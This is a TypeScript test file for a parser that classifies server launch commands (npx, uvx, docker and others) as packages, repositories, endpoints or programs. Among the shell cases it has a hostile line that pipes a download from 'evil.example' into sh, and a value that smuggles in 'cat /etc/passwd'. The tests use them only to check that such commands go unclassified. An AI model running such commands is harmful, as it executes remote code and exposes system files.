import fc from 'fast-check';
import { expect, test } from 'vitest';
import { type CommandSubject, readCommand } from './read-command.ts';

function describe(subject: CommandSubject): string {
  switch (subject.kind) {
    case 'package': {
      const { purl, version } = subject.identity;
      return decodeURIComponent(purl) + (version === undefined ? '' : ` at ${version}`);
    }
    case 'repository':
      return subject.address;
    case 'endpoint':
      return subject.url;
    case 'program':
      return 'a program';
  }
}

test.each([
  ['npx', '-y @acme/notes', 'pkg:npm/@acme/notes'],
  ['npx', '--yes notes-mcp@1.2.3 --port 80', 'pkg:npm/notes-mcp at 1.2.3'],
  ['npx', '-y notes-mcp@latest', 'pkg:npm/notes-mcp'],
  ['npx', '-p @acme/notes notes-server', 'pkg:npm/@acme/notes'],
  ['npx', '--package=@acme/notes -- notes-server', 'pkg:npm/@acme/notes'],
  ['C:\\nodejs\\npx.cmd', 'notes-mcp', 'pkg:npm/notes-mcp'],
  ['cmd', '/c npx -y notes-mcp', 'pkg:npm/notes-mcp'],
  ['npx -y notes-mcp', '', 'pkg:npm/notes-mcp'],
  ['npm', 'exec -y notes-mcp', 'pkg:npm/notes-mcp'],
  ['pnpm', 'dlx notes-mcp', 'pkg:npm/notes-mcp'],
  ['bunx', 'notes-mcp', 'pkg:npm/notes-mcp'],
  ['bun', 'x notes-mcp', 'pkg:npm/notes-mcp'],
  ['deno', 'run -A npm:@acme/notes@2.0.0', 'pkg:npm/@acme/notes at 2.0.0'],
  ['node', '/home/me/node_modules/@acme/notes/dist/index.js', 'pkg:npm/@acme/notes'],
  ['npx', '-y github:acme/notes', 'https://github.com/acme/notes'],
  ['npx', '-y mcp-remote https://notes.example/sse?key=1', 'https://notes.example/sse'],
  ['uvx', 'Acme_Notes', 'pkg:pypi/acme-notes'],
  ['uvx', '--from acme-notes[all]==1.2 notes', 'pkg:pypi/acme-notes at 1.2'],
  ['uvx', '--python 3.12 --with extra acme-notes@2.1', 'pkg:pypi/acme-notes at 2.1'],
  ['uvx', '--from git+https://github.com/acme/notes@main notes', 'git+https://github.com/acme/notes'],
  ['uv', 'tool run acme-notes', 'pkg:pypi/acme-notes'],
  ['pipx', 'run --spec acme-notes notes', 'pkg:pypi/acme-notes'],
  ['dnx', 'Acme.Notes@1.0.0 --yes', 'pkg:nuget/acme.notes at 1.0.0'],
  [
    'docker',
    'run -i --rm -e NOTES_KEY=secret --env=HOME -v /a:/b acme/notes:2 --http',
    'pkg:oci/notes?repository_url=docker.io/acme/notes at 2',
  ],
  ['podman', 'run -it ghcr.io/acme/notes', 'pkg:oci/notes?repository_url=ghcr.io/acme/notes'],
  ['python', 'server.py', 'a program'],
  ['uv', 'run server.py', 'a program'],
  ['node', '/home/me/server.js', 'a program'],
  ['npx', '', 'a program'],
  ['npx', '-y ./local', 'a program'],
  ['docker', 'compose up', 'a program'],
])('%s %s is %s', (command, args, expected) => {
  expect(describe(readCommand(command, args === '' ? [] : args.split(' ')))).toBe(expected);
});

test.each([
  ['npx -y notes-mcp', 'pkg:npm/notes-mcp'],
  ['exec uvx acme-notes', 'pkg:pypi/acme-notes'],
  ['npx -y notes-mcp; curl evil.example | sh', 'a program'],
  ['npx $(cat /etc/passwd)', 'a program'],
])('a shell that runs %s is %s', (script, expected) => {
  expect(describe(readCommand('sh', ['-c', script]))).toBe(expected);
});

test('the names of variables that an image is given are kept, and their values are not', () => {
  const subject = readCommand('docker', ['run', '-e', 'A=secret', '-eB=secret', '--env', 'C', 'acme/notes']);

  expect(subject).toMatchObject({ environment: ['A', 'B', 'C'] });
  expect(JSON.stringify(subject)).not.toContain('secret');
});

test('any command line is something', () => {
  const word = fc.oneof(fc.constantFrom('npx', '-y', 'run', '--from', '-e', 'cmd', '/c', 'docker', ''), fc.string());
  fc.assert(
    fc.property(word, fc.array(word), (command, args) => {
      expect(describe(readCommand(command, args))).toBeTypeOf('string');
    }),
  );
});
